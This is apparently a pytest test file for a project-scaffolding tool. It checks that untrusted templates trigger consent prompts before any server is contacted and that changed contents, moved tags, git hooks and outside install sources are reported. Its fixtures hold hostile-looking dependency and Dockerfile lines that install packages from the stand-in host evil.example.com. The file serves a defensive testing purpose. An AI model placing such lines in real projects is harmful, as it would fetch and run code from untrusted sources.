"""What is trusted is a place and its content; no server hears of it before the user agrees."""

import json
import os
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pexpect
import pytest
import terminals
import yaml
from conftest import commit, git, viscaffold
from teams import MakeRepository, MakeTeam, tag

from scaffolder.overlays import layers

ROOT = str(Path(__file__).parents[2])


class Server:
    """A server that notes every connection, and says nothing."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.requests: list[bytes] = []
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/team.git"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                self.requests.append(connection.recv(4096))


@pytest.fixture
def server() -> Iterator[Server]:
    made = Server()
    yield made
    made.socket.shutdown(socket.SHUT_RDWR)
    made.socket.close()


@pytest.fixture(autouse=True)
def _another_user(new_user: None) -> None:
    """Nothing is trusted yet."""


@pytest.fixture
def hostile(server: Server) -> Path:
    """A repository of others, whose answers name a server, and step into it."""
    assert viscaffold("new", "orders").code == 0
    entry = {"source": server.url, "version": "1.0", "digest": "a" * 64}
    with Path("orders/.copier-answers.yml").open("a", encoding="utf-8") as answers:
        answers.write(yaml.safe_dump({"_overlays": [entry]}))
    os.chdir("orders")
    commit(Path.cwd())
    return Path.cwd()


def on_terminal(*args: str) -> "pexpect.spawn[str]":
    return terminals.on_terminal(
        sys.executable, ["-m", "scaffolder", *args], encoding="utf-8", timeout=60,
        env={**os.environ, "PYTHONPATH": ROOT, "NO_COLOR": "1"},
    )  # fmt: skip


def finished(child: "pexpect.spawn[str]") -> tuple[int | None, str]:
    child.expect(pexpect.EOF)
    shown = str(child.before)
    child.close()
    return child.exitstatus, shown


@pytest.mark.parametrize("command", ["status", "status --json", "stages"])
@pytest.mark.usefixtures("hostile")
def test_who_only_looks_is_asked_nothing_and_no_server_hears_of_it(
    server: Server,
    command: str,
) -> None:
    code, shown = finished(on_terminal(*command.split()))

    assert code == 0
    assert "not trusted here" in shown
    assert server.requests == []


@pytest.mark.parametrize("command", ["update --check", "update", "add-stage api"])
@pytest.mark.usefixtures("hostile")
def test_on_a_terminal_the_url_is_shown_before_the_server_is_contacted(
    server: Server,
    command: str,
) -> None:
    child = on_terminal(*command.split())
    child.expect("Contact that server")
    before = str(child.before)
    heard = list(server.requests)
    child.sendline("n")
    code, shown = finished(child)

    assert heard == server.requests == []
    assert server.url in before
    assert "neither encrypted nor authenticated" in before
    assert code == 5
    assert "not trusted yet" in shown


@pytest.mark.usefixtures("hostile")
def test_after_a_yes_the_server_is_contacted(server: Server) -> None:
    child = on_terminal("update", "--check")
    child.expect("Contact that server")
    child.sendline("y")
    code, _ = finished(child)

    assert code == 5  # it says nothing
    assert b"/team.git/info/refs" in server.requests[0]


@pytest.mark.parametrize(
    "command",
    ["update --check", "add-stage api", "new other -t URL", "new other -t URL@1.0",
     "add-stage URL#kafka", "template export URL -o flat"],
)  # fmt: skip
@pytest.mark.parametrize("flags", ["", "--yes"])
@pytest.mark.usefixtures("hostile")
def test_without_a_terminal_no_server_hears_of_it_without_the_flag(
    server: Server,
    command: str,
    flags: str,
) -> None:
    takes = flags if "export" not in command else ""
    ran = viscaffold(*command.replace("URL", server.url).split(), *takes.split())

    assert ran.code == 5
    assert "with --trust" in ran.err
    assert server.requests == []


@pytest.mark.usefixtures("hostile")
def test_a_terminal_where_nobody_types_counts_as_none(
    server: Server,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CI", "true")
    code, shown = finished(on_terminal("update", "--check"))

    assert code == 5
    assert "with --trust" in shown
    assert server.requests == []


def test_a_default_template_on_a_server_is_not_asked_for_its_stages(
    server: Server,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("VISCAFFOLD_TEMPLATE", server.url)
    ran = viscaffold("stages")

    assert ran.code == 0
    assert "Other stages are not shown" in ran.err
    assert server.requests == []


def relative(team: Path, name: str, source: str = "tpl") -> Path:
    """Make a repository whose service records a template by a relative path in it."""
    root = Path(name, "orders").absolute()
    root.parent.mkdir()
    assert viscaffold("new", str(root), "-t", str(team), "--trust").code == 0
    shutil.copytree(team, root / "tpl")
    answers = root / ".copier-answers.yml"
    text = answers.read_text(encoding="utf-8").replace(f"source: {team}", f"source: {source}")
    answers.write_text(text, encoding="utf-8")
    commit(root)
    return root


@pytest.mark.parametrize("source", ["tpl", "./tpl", "../orders/tpl"])
def test_a_relative_source_is_a_place_in_its_own_repository(
    team: MakeTeam, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, source: str
) -> None:
    good = relative(team({}, "good"), "ours", source)
    bad = relative(team({"template/python/evil.txt": "evil\n"}, "bad"), "theirs", source)
    for variable in ("XDG_DATA_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(variable, str(tmp_path / "another" / variable))
    layers.known.clear()
    os.chdir(good)
    agreed = viscaffold("update", "--check", "--trust")
    file = Path(os.environ["XDG_DATA_HOME"], "viscaffold/trusted.json")
    known = list(json.loads(file.read_text(encoding="utf-8")))
    os.chdir(bad)
    refused = viscaffold("update", "--check")
    looked = viscaffold("status")

    assert agreed.code in (0, 10), agreed.err
    assert known == [str(good / "tpl")]
    assert refused.code == 5
    assert f"{bad / 'tpl'} is not trusted yet" in refused.err
    assert "not trusted here" in looked.out


def test_a_directory_is_trusted_with_its_content(team: MakeTeam) -> None:
    source = team()
    assert viscaffold("new", "one", "-t", str(source), "--trust").code == 0
    assert viscaffold("new", "two", "-t", str(source)).code == 0
    (source / "template/python/evil.txt").write_text("evil\n", encoding="utf-8")
    changed = viscaffold("new", "three", "-t", str(source))

    assert changed.code == 5
    assert f"! {source} has changed since you trusted it" in changed.err
    assert "template/python/evil.txt" in changed.err
    assert viscaffold("new", "three", "-t", str(source), "--trust").code == 0
    assert viscaffold("new", "four", "-t", str(source)).code == 0


def test_a_tag_that_was_moved_is_said_and_asked_about_again(repository: MakeRepository) -> None:
    source = repository()
    url = f"file://{source}@1.0"
    assert viscaffold("new", "one", "-t", url, "--trust").code == 0
    git(source, "tag", "-d", "1.0")
    tag(source, "1.0", {"template/python/evil.txt": "evil\n"})
    moved = viscaffold("new", "two", "-t", url)
    child = on_terminal("new", "two", "-t", url)
    child.expect("was moved since you trusted it")
    child.expect("Trust it")
    child.sendline("y")
    code, _ = finished(child)

    assert moved.code == 5
    assert f"! the tag 1.0 of file://{source} was moved since you trusted it" in moved.err
    assert code == 0
    assert "since you trusted" not in viscaffold("new", "three", "-t", url).err


def test_a_tag_that_was_moved_to_the_same_content_is_only_said(repository: MakeRepository) -> None:
    source = repository()
    url = f"file://{source}@1.0"
    viscaffold("new", "one", "-t", url, "--trust")
    git(source, "tag", "-d", "1.0")
    tag(source, "1.0", {"README.md": "no part of the template\n"})
    ran = viscaffold("new", "two", "-t", url)

    assert ran.code == 0
    assert "was moved to another commit, with the same content" in ran.err


def test_what_was_agreed_to_by_an_earlier_viscaffold_still_is(team: MakeTeam) -> None:
    source = team()
    file = Path(os.environ["XDG_DATA_HOME"], "viscaffold/trusted.json")
    file.parent.mkdir(parents=True)
    file.write_text(json.dumps({str(source): {}}), encoding="utf-8")

    assert viscaffold("new", "one", "-t", str(source)).code == 0
    (source / "template/python/evil.txt").write_text("evil\n", encoding="utf-8")
    assert viscaffold("new", "two", "-t", str(source)).code == 5


STAGES = """\
kafka:
  title: Kafka
  summary: a consumer of events
  requires: []
  python:
    dependencies:
      - "evil @ https://evil.example.com/evil.whl"
      - "other @ git+https://evil.example.com/other"
    settings: {}
"""
PROJECT = '[tool.uv.sources]\nx = {index = "y"}\n'
DOCKERFILE = "RUN pip install --extra-index-url https://evil.example.com/simple x\n"


def test_what_it_adds_and_from_where_it_installs_is_shown(team: MakeTeam) -> None:
    many = {f"template/python/docs/{n}.md": "x\n" for n in range(300)}
    wanted = [f"package-{number}" for number in range(30)]
    stages = STAGES.replace(
        "    settings", "".join(f"      - {name}\n" for name in wanted) + "    settings"
    )
    source = team(
        {"stages.yml": stages, "template/python/other.toml": PROJECT,
         "template/python/Dockerfile.dev": DOCKERFILE, **many}
    )  # fmt: skip
    err = viscaffold("new", "orders", "-t", str(source)).err
    installs, elsewhere = err.split("installs, with its stages:")[1].split("come from elsewhere:")

    assert "evil @ https://evil.example.com/evil.whl" in installs
    assert all(f"    {name}\n" in installs for name in wanted)
    assert 'stages.yml:8: - "other @ git+https://evil.example.com/other"' in elsewhere
    assert "template/python/other.toml:1: [tool.uv.sources]" in elsewhere
    assert "--extra-index-url https://evil.example.com/simple" in elsewhere
    assert all(f"    {path}\n" in err for path in many)


@pytest.mark.parametrize("way", ["core.hooksPath", "init.templateDir"])
def test_the_first_commit_runs_no_hook_on_the_files_of_others(
    team: MakeTeam, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    """Hooks of the user's that run what they find in the work tree, as pre-commit does."""
    hook = "#!/bin/sh\ntouch $HOOKED\n"
    source = team({"template/python/.githooks/pre-commit": hook})
    (source / "template/python/.githooks/pre-commit").chmod(0o755)
    templates = tmp_path / "templates/hooks"
    templates.mkdir(parents=True)
    (templates / "pre-commit").write_text("#!/bin/sh\n.githooks/pre-commit\n", encoding="utf-8")
    (templates / "pre-commit").chmod(0o755)
    value = ".githooks" if way == "core.hooksPath" else str(templates.parent)
    for name, text in (("COUNT", "1"), ("KEY_0", way), ("VALUE_0", value)):
        monkeypatch.setenv(f"GIT_CONFIG_{name}", text)
    monkeypatch.setenv("HOOKED", str(tmp_path / "hooked"))
    ran = viscaffold("new", "orders", "-t", str(source), "--trust")

    assert ran.code == 0, ran.err
    assert not (tmp_path / "hooked").exists()
    git(Path("orders"), "commit", "--allow-empty", "-m", "mine")
    assert (tmp_path / "hooked").exists()  # it would have run
